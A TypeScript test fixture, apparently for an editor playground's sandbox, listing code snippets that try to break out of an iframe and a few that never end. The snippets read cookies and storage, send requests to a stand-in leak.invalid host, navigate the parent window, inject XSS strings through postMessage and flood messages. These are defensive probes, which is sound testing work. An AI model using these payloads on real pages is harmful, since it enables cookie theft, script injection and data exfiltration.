/* Code that somebody may put into a link to the playground. */

/** Code that prints "escaped" when it gets what it must not get. Requests that it makes have "leak" in their address. */
export const escapes: Record<string, string> = {
  'the page around it': `
for (const read of [() => parent.document, () => top!.document.cookie, () => parent.localStorage, () => frameElement]) {
  try { if (read()) console.log('escaped'); } catch {}
}`,
  'what the browser keeps': `
for (const read of [() => localStorage, () => sessionStorage, () => document.cookie, () => indexedDB.open('x'), () => caches.open('x')]) {
  try {
    const got: unknown = read();
    if (got instanceof Promise) got.then(() => console.log('escaped'), () => {});
    else if (got instanceof IDBOpenDBRequest) got.onsuccess = () => console.log('escaped');
    else console.log('escaped');
  } catch {}
}`,
  'the network by scripts': `
for (const address of ['/leak', 'http://leak.invalid/leak']) {
  fetch(new URL(address, 'http://127.0.0.1')).then(() => console.log('escaped'), () => {});
  try { navigator.sendBeacon(address, 'x'); } catch {}
}
try { new WebSocket('ws://leak.invalid/leak').onopen = () => console.log('escaped'); } catch {}
try { new EventSource('http://leak.invalid/leak').onopen = () => console.log('escaped'); } catch {}`,
  'the network by elements': `
document.body.insertAdjacentHTML('beforeend', '<img src="http://leak.invalid/leak"><link rel="stylesheet" href="http://leak.invalid/leak"><style>@import "http://leak.invalid/leak"; body { background: url(http://leak.invalid/leak) }</style><video src="http://leak.invalid/leak"></video><object data="http://leak.invalid/leak"></object>');
const script = document.createElement('script');
script.src = 'http://leak.invalid/leak';
document.body.append(script);`,
  'the window around it': `
for (const go of [() => { top!.location.href = '/leak'; }, () => { parent.location.replace('/leak'); }, () => { if (open('/leak')) console.log('escaped'); }]) {
  try { go(); } catch {}
}
document.body.innerHTML = '<a href="/leak" target="_top">x</a><a href="/leak" target="_blank">x</a>';
document.querySelectorAll('a').forEach((link) => link.click());`,
  'another frame': `
for (const html of ['<iframe src="/docs/intro?leak"></iframe>', '<iframe srcdoc="<script>parent.postMessage(1)</script>"></iframe>', '<iframe src="http://leak.invalid/leak"></iframe>']) {
  document.body.insertAdjacentHTML('beforeend', html);
}
for (const frame of document.querySelectorAll('iframe')) {
  try { if (frame.contentWindow?.localStorage) console.log('escaped'); } catch {}
}`,
  'workers and text as code': `
const url = URL.createObjectURL(new Blob(['postMessage(1)'], {type: 'text/javascript'}));
try { new Worker(url).onmessage = () => console.log('escaped'); } catch {}
try { navigator.serviceWorker.register('/leak.js').then(() => console.log('escaped'), () => {}); } catch {}
try { eval('console.log("escaped")'); } catch {}
try { new Function('console.log("escaped")')(); } catch {}`,
  'forms and files': `
document.body.innerHTML = '<form action="http://leak.invalid/leak" method="post"><input name="a" value="b"></form><a href="data:text/plain,leak" download="leak.txt">x</a>';
document.querySelector('form')!.submit();
document.querySelector('a')!.click();`,
  'its own address': `
try { location.href = 'http://leak.invalid/leak'; } catch {}`,
  'the page by messages': `
parent.postMessage({kind: 'console', entries: [{level: 'log', values: [{type: 'string', text: '<img src=x onerror="document.title=1">'}]}], dropped: 0}, '*');
parent.postMessage({kind: 'state', view: {tab: 'HTML', steps: [1], current: 0, text: '<script>document.title = 1</script>'}}, '*');
parent.postMessage({kind: 'failed', error: {type: 'error', text: 'Minified Lexical error #1; visit javascript:alert(1) for'}}, '*');
parent.postMessage({kind: 'need', packages: ['../../docs/intro', '__proto__', 'constructor']}, '*');`,
};

/** Code that would not end. */
export const endless: Record<string, string> = {
  'a loop': 'while (true) {}',
  'a loop that waits': 'for (;;) await 0;',
  'updates that follow from each other':
    "import {$createParagraphNode, $getRoot, createEditor} from 'lexical';\nconst editor = createEditor();\neditor.registerUpdateListener(() => {\n  editor.update(() => {\n    $getRoot().append($createParagraphNode());\n  });\n});\neditor.setRootElement(document.body.appendChild(document.createElement('div')));\neditor.update(() => {\n  $getRoot().append($createParagraphNode());\n});",
  'messages without end':
    "const flood = () => {\n  for (let i = 0; i < 500; i++) parent.postMessage({kind: 'alive'}, '*');\n  setTimeout(flood);\n};\nflood();",
};
